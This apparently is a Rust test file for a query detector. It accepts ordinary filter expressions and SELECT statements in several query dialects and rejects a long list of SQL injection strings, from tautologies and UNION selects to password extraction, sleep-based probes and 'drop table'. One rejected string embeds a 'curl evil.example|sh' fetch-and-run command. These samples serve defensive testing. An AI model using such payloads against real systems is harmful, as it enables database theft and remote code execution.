use super::*;

#[track_caller]
fn check(expected: bool, texts: &[&str]) {
    for text in texts {
        assert_eq!(is_query(text.as_bytes()), expected, "{text}");
    }
}

#[test]
fn conditions_of_products_are_queries() {
    check(
        true,
        &[
            r#""epic link" = abc-1 and "story points" > 3"#,
            r#"assignee in membersof("jira-users") and status = open"#,
            r#"cf[10021] is not empty and reporter in membersof("jira-users") or watcher = bob"#,
            r#"due < endofday("+1") and project = hsp order by created desc, key"#,
            r#"status in ("in progress", open) and updated >= "2023/05/1" or status changed by jdoe after startofmonth(-1)"#,
            r#"project="bookkeeper"and"issuetype"="bug"and("status"="closed"or"status"="resolved")"#,
            r#""approvals" = pending() and "organizations" = "acme""#,
            "1=1 and day <= date '2021-01-02 00:00:00' and (zone='59350')",
            "1=1 and 1763601274966=1763601274966",
            "1=1 and 1=1",
            "name = 'd''arcy' and (size + 1) * 2 > 7",
            "upper(owner) like upper('%smith%') or upper(owner) like upper('%jones%')",
            "(1=1) and (status <> 'closed' or status is null) and type in ('a','b')",
            r#""id" in (1,2) and "name" ilike '%park%'"#,
            "in('states.1','states.12') or name <> 'x'",
            r#"status matches "run.*" or type == "service""#,
            "anytext like '*geol*' and bbox='12.1 44.5 27.0 53.1'",
            "bbox(the_geom,-90,40,-60,45) and dct:title like 'a%'",
            r#"size=in=('xl',"it's") and colour=like="select""#,
            r#"title ~ "union rules" and owner = 'd\'arcy' and size in ('s','a;b')"#,
            "height > 3.5 and width * 2 < 7 and not color = 'red'",
        ],
    );
}

#[test]
fn statements_from_the_first_word_to_the_last_are_queries() {
    check(
        true,
        &[
            "select * from contacts;",
            "select * from leads where email='john@example.com' or phone='555-1234' limit 0,10;",
            "select accountname,bill_street  from accounts where cf_705='11111111-1';",
            "select * from cmis:document where cmis:name like '%'",
            "select d.*, t.* from cmis:document as d join cm:titled as t on d.cmis:objectid = t.cmis:objectid where in_tree(d,'workspace://a/1') and t.cm:title like '%budget%'",
            "select * from department maxresults 1000",
            "select top 1 p.mangaid, p.plate from mangadrpall as p where p.objra between 10.1 and 10.2",
            "select st_asgeojson(st_envelope(m.the_geom)) as bbox, t.id as id from landscapes t left join mapes m on t.id=m.id",
            r#"select * from "home"."autogen"."°c" where "entity_id"='outdoor_temp' order by time desc limit 1"#,
            r#"select non_negative_derivative(max("bytes_recv"), 1s) *8 from "net" where "interface" =~ /eth0|ens3/ and time > 1700000000000ms group by time(30s), "host" fill(none)"#,
            "select id,name,(select id,email from contacts) from account where ownerid='0059'",
            r#"select * from weather.forecast where woeid in (select woeid from geo.places(1) where text="boston")"#,
            "select * from [nthl:workspaceitem] as node where isdescendantnode('/home/x') and (upper([jcr:title]) like '%test%') and not(isdescendantnode ('/home/x/trash/'))",
            "select location, applicant as name where start24 < '12:30' and dayorder=3 order by name",
            "select `id`, `case_number`, `date` order by `date` desc null first",
        ],
    );
}

#[test]
fn what_breaks_out_or_is_always_true_is_no_query() {
    check(
        false,
        &[
            "1 or 1=1",
            "1' or '1'='1",
            "name' or 'a' like 'a",
            "name='x' or 1=1",
            "a='or 1=1 or b='",
            "name=' or 7=7 or name='",
            "a=' or exists(select 1 from users) or b='",
            "a='||(select password from users limit 1)||'",
            "a='+(select top 1 password from users)+'",
            "a=' or 1=1 -- '",
            r"a='\\' or 1=1 -- '",
            r#"x="' or 1=1 -- ""#,
            "a=/' or (select password from users)='x' -- /",
            r#"a=" or 1=1 or b=""#,
            "a='or(1)or'",
            "a='or' or b='x'",
            r#"a="union select x from b""#,
            r"a='\' or b='x'",
            "a='b;drop table c'",
            "a=in=b or 1=1",
            "a['or 1=1 or b=']=1",
            "@@version like '5%'",
            "1=1 and length(password)=8",
            "1=1 and left(password,1)='a'",
            "0=id or name='a'",
            "id=1 and 1=1",
            "id=id and 5=5",
            "select * from [sys].[objects]",
            "select * from mysql .user",
            "name='x' or 'a'='a'",
            r#"name="x" or "a"="a""#,
            "id=1 or 1=1--",
            "name = 'x' and sleep(5)",
            "name = 'x' and ascii(substring(user(),1,1)) > 64",
            "'a'='a'",
            "1=2 and name = 'x'",
            "id = 1 union select a from b",
            "id in (select id from users)",
            "select user()",
            "select current_user",
            "id is null or pg_catalog.version() like 'p%'",
            "id is null or pg_ls_dir('x') like 'a'",
            "a='is not null or name is distinct from'",
            "a='is not null and id in (select id from b where c like d) or not'",
            "a='*id or (select password from users limit 1) in (x) or not'",
            "a='*id or x not'",
            "a='%id or password like y%'",
            "a='x (select b from c) y'",
            "select `curl evil.example|sh` from a",
            "select 1,2,3 from users",
            "select * from information_schema.tables",
            "select * from users; drop table users",
            "select * from users where 1=1 or 2=2",
            "select a from b /* c */",
            "admin' --",
            "x) or (1=1",
            "",
            "shoes and socks",
            "f(x)",
        ],
    );
}

#[test]
fn depth_is_bounded() {
    for unit in ["(", "a=(", "a in (", "f(", "select (", "not ", "a=1 and (", "((a-1)-"] {
        check(false, &[&unit.repeat(20_000)]);
    }
}
